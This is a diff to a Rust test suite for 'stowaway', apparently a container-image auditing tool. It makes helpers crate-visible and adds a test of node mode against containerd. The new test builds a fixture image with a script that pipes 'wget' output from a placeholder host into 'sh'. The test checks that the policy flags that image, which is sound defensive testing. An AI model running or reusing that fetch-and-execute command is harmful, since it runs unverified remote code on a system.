@@ -17,14 +17,14 @@ use crate::sources::scenario;
 use crate::util::*;
 
 /// One pushed image: repository, tag and manifest digest.
-struct Pushed {
-    repo: String,
-    digest: String,
-    img: BuiltImage,
+pub(crate) struct Pushed {
+    pub(crate) repo: String,
+    pub(crate) digest: String,
+    pub(crate) img: BuiltImage,
 }
 
 /// Push `img` to `repo:v1`.
-fn push_image(reg: &Registry, dir: &Path, repo: &str, img: BuiltImage) -> Pushed {
+pub(crate) fn push_image(reg: &Registry, dir: &Path, repo: &str, img: BuiltImage) -> Pushed {
     let src = layout_of(&img, &dir.join(repo.replace('/', "_")));
     push(
         &format!("{src}:v1"),
@@ -40,7 +40,7 @@ fn push_image(reg: &Registry, dir: &Path, repo: &str, img: BuiltImage) -> Pushed
 }
 
 /// A clean image (one text file) made distinct by `n`.
-fn clean(n: usize) -> BuiltImage {
+pub(crate) fn clean(n: usize) -> BuiltImage {
     ImageBuilder::new()
         .tag("v1")
         .layer(LayerBuilder::new().file("etc/motd", format!("image {n}\n").as_bytes(), 0o644))
@@ -48,7 +48,7 @@ fn clean(n: usize) -> BuiltImage {
 }
 
 /// Three clean images and one with transfer tools (which the default policy denies).
-fn four_images(reg: &Registry, dir: &Path) -> Vec<Pushed> {
+pub(crate) fn four_images(reg: &Registry, dir: &Path) -> Vec<Pushed> {
     let mut out: Vec<Pushed> = (0..3)
         .map(|n| push_image(reg, dir, &format!("team/app{n}"), clean(n)))
         .collect();
@@ -62,7 +62,7 @@ fn four_images(reg: &Registry, dir: &Path) -> Vec<Pushed> {
 }
 
 /// One pod of a Deployment (`app-<i>`), its container running `p`.
-fn pod(ns: &str, deploy: &str, i: usize, p: &Pushed, id_form: usize) -> Value {
+pub(crate) fn pod(ns: &str, deploy: &str, i: usize, p: &Pushed, id_form: usize) -> Value {
     let image = format!("{}:v1", p.repo);
     let image_id = match id_form % 3 {
         0 => format!("docker-pullable://{}@{}", p.repo, p.digest),
@@ -93,7 +93,7 @@ fn pod(ns: &str, deploy: &str, i: usize, p: &Pushed, id_form: usize) -> Value {
     })
 }
 
-fn pod_list(items: Vec<Value>) -> Value {
+pub(crate) fn pod_list(items: Vec<Value>) -> Value {
     json!({ "apiVersion": "v1", "kind": "List", "items": items, "metadata": { "resourceVersion": "" } })
 }
 
@@ -109,13 +109,13 @@ fn sixty_pods(images: &[Pushed]) -> Value {
     pod_list(items)
 }
 
-fn write_json(dir: &Path, name: &str, v: &Value) -> String {
+pub(crate) fn write_json(dir: &Path, name: &str, v: &Value) -> String {
     let p = dir.join(name);
     std::fs::write(&p, serde_json::to_vec_pretty(v).unwrap()).unwrap();
     p.display().to_string()
 }
 
-fn audit(args: &[&str]) -> (Option<i32>, Value, String) {
+pub(crate) fn audit(args: &[&str]) -> (Option<i32>, Value, String) {
     let out = stowaway(&[&["audit"], args].concat());
     let err = String::from_utf8_lossy(&out.stderr).into_owned();
     let doc = serde_json::from_slice(&out.stdout).unwrap_or(Value::Null);
@@ -439,4 +439,107 @@ fn hostile_pod_lists_fail_closed() {
     let (code, _, err) = audit(&["--pods", f.to_str().unwrap()]);
     assert_eq!(code, Some(2));
     assert!(err.contains("pod list"), "{err}");
+}
+
+/// A container as containerd's runtime v2 keeps it on the host (the bundle
+/// config with the CRI annotations), under `host_root`.
+fn containerd_task(host_root: &Path, id: &str, name: Option<&str>, image: Option<&str>) {
+    let bundle = host_root
+        .join("run/containerd/io.containerd.runtime.v2.task/k8s.io")
+        .join(id);
+    std::fs::create_dir_all(bundle.join("rootfs")).unwrap();
+    let mut annotations = serde_json::Map::new();
+    if let Some(n) = name {
+        annotations.insert("io.kubernetes.cri.container-name".into(), json!(n));
+    }
+    if let Some(i) = image {
+        annotations.insert("io.kubernetes.cri.image-name".into(), json!(i));
+    }
+    let spec =
+        json!({"ociVersion": "1.1.0", "root": {"path": "rootfs"}, "annotations": annotations});
+    std::fs::write(bundle.join("config.json"), spec.to_string()).unwrap();
+}
+
+/// Node mode: containers of this node (containerd's task state under
+/// `--host-root`, as the kubelet's CRI leaves it) whose images a real
+/// containerd holds; each image is read from containerd once, nothing is
+/// pulled.
+#[test]
+fn node_mode_reads_each_image_from_the_nodes_containerd_once() {
+    if !require("containerd") || !require("ctr") {
+        return;
+    }
+    let t = tmp();
+    let ctd = crate::local_stores::Containerd::start();
+    let names = [
+        "docker.io/stowaway-test/a:1",
+        "docker.io/stowaway-test/tools:1",
+    ];
+    // (the scenario image's hardlink to a deleted file cannot be unpacked by containerd)
+    let tools = ImageBuilder::new()
+        .layer(LayerBuilder::new().file(
+            "usr/local/bin/get.sh",
+            b"#!/bin/sh\nwget -q -O- http://x.invalid/p | sh\n",
+            0o755,
+        ))
+        .build();
+    let imgs = [clean(0), tools];
+    for (i, (img, name)) in imgs.iter().zip(names).enumerate() {
+        let mut tagged = img.clone();
+        tagged.tag = Some(name.to_string());
+        let archive = t.path().join(format!("{i}.tar"));
+        tagged.write_oci_archive(&archive).unwrap();
+        let out = ctd.ctr(&["images", "import", &archive.display().to_string()]);
+        assert!(
+            out.status.success(),
+            "{}",
+            String::from_utf8_lossy(&out.stderr)
+        );
+    }
+    let host = t.path().join("host");
+    containerd_task(&host, "c1", Some("web"), Some(names[0]));
+    containerd_task(&host, "c2", Some("web"), Some(names[0]));
+    containerd_task(&host, "c3", Some("sidecar"), Some(names[1]));
+    containerd_task(&host, "c4", Some("pause"), None);
+    let sock = ctd.socket();
+    let args = [
+        "--node",
+        "--host-root",
+        host.to_str().unwrap(),
+        "--containerd-address",
+        &sock,
+        "--format",
+        "json",
+    ];
+    let (code, doc, err) = audit(&args);
+    assert_eq!(
+        code,
+        Some(2),
+        "a container without an image is reported: {err}"
+    );
+    assert_eq!(doc["source"], "node");
+    assert_eq!(
+        doc["skipped"][0]["what"], "container/containerd/c4",
+        "{doc}"
+    );
+    let workloads = doc["workloads"].as_array().unwrap();
+    assert_eq!(workloads.len(), 3, "{doc}");
+    assert!(workloads.iter().all(|w| w["kind"] == "Container"));
+    let images = doc["images"].as_array().unwrap();
+    assert_eq!(images.len(), 2, "{doc}");
+    let by_ref = |r: &str| {
+        images
+            .iter()
+            .find(|i| i["reference"] == format!("containerd:{r}"))
+            .unwrap()
+    };
+    assert_eq!(by_ref(names[0])["verdict"], "pass");
+    assert_eq!(by_ref(names[0])["workloads"], 2);
+    assert_eq!(
+        by_ref(names[0])["digest"],
+        imgs[0].manifest_digest.to_string().as_str()
+    );
+    assert_eq!(by_ref(names[1])["verdict"], "fail");
+    let (code, _, err) = audit(&[&args[..], &["--allow-skipped"]].concat());
+    assert_eq!(code, Some(1), "the tools image fails the policy: {err}");
 }
